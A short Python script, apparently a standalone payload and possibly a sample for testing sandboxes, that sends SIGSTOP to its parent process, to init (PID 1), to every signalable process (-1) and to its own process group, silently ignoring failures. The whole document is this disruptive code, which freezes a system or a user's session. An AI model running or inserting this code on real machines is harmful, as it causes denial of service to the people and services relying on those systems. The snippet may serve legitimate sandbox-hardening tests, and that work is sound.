import os
import signal

for target in (os.getppid(), 1, -1, 0):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass
